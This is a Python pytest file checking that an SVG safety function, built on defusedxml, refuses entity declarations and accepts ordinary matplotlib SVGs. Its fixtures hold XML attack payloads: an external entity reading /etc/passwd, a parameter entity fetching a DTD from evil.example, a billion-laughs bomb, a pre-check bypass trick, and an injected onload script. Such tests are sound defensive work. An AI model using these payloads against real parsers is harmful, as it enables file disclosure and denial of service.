"""nqf.app._report.svg_is_safe parses with defusedxml: entity declarations (internal, external, parameter entities
pulling in an external DTD) are refused by the parser itself, also where the internal-subset pre-check is
fooled; a DOCTYPE that only names an external DTD (matplotlib's) is still accepted, as nothing fetches it."""

import io

import pytest

from nqf.app._report import svg_is_safe

NS = 'xmlns="http://www.w3.org/2000/svg"'
MPL_DOCTYPE = (
    '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
)
# `>` inside the DOCTYPE's quoted system id hides the internal subset `[` from the pre-check: defusedxml decides
HIDDEN = '<!DOCTYPE svg SYSTEM "a>b" ['

REFUSED = {
    "internal entity": f'<!DOCTYPE svg [<!ENTITY x "y">]><svg {NS}><text>&x;</text></svg>',
    "internal entity, unused": f'<!DOCTYPE svg [<!ENTITY x "y">]><svg {NS}/>',
    "external DTD through a parameter entity": (
        f'<!DOCTYPE svg [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><svg {NS}/>'
    ),
    "external entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {NS}><text>&x;</text></svg>',
    "billion laughs": (
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        f'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg {NS}><text>&c;</text></svg>'
    ),
    "internal entity past the pre-check": f'{HIDDEN}<!ENTITY x "y">]><svg {NS}><text>&x;</text></svg>',
    "external DTD past the pre-check": f'{HIDDEN}<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><svg {NS}/>',
    "external entity past the pre-check": f'{HIDDEN}<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {NS}>&x;</svg>',
    "an attribute default past the pre-check": f'{HIDDEN}<!ATTLIST svg onload CDATA "alert(1)">]><svg {NS}/>',
    "an undeclared entity": f"<svg {NS}><text>&x;</text></svg>",
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_entities_and_external_dtds_are_refused(case):
    assert svg_is_safe(REFUSED[case].encode()) is False


def test_the_parser_itself_refuses_entities():
    """The entity cases past the pre-check are refused by defusedxml, not by a later check: the same SVG with the
    entity declared but inert would otherwise be safe (it holds nothing active)."""
    import defusedxml.ElementTree as defused_etree
    from defusedxml import EntitiesForbidden

    for case in ("internal entity past the pre-check", "external DTD past the pre-check"):
        with pytest.raises(EntitiesForbidden):
            defused_etree.fromstring(REFUSED[case].encode())
    assert svg_is_safe(f'<!DOCTYPE svg SYSTEM "a>b"><svg {NS}><text>y</text></svg>'.encode())


@pytest.mark.parametrize(
    "doc",
    [
        f"{MPL_DOCTYPE}<svg {NS}><rect/></svg>",
        f'<!DOCTYPE svg SYSTEM "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg {NS}/>',
        f"<svg {NS}/>",
    ],
    ids=["matplotlib's DOCTYPE", "system id only", "no DOCTYPE"],
)
def test_an_svg_naming_an_external_dtd_only_is_accepted(doc):
    assert svg_is_safe(doc.encode()) is True


def test_a_matplotlib_svg_is_safe():
    from matplotlib.figure import Figure

    fig = Figure(figsize=(2, 2))
    fig.add_subplot().plot([0, 1], [1, 0], label="x")
    buf = io.BytesIO()
    fig.savefig(buf, format="svg")
    assert b"<!DOCTYPE svg PUBLIC" in buf.getvalue()
    assert svg_is_safe(buf.getvalue()) is True
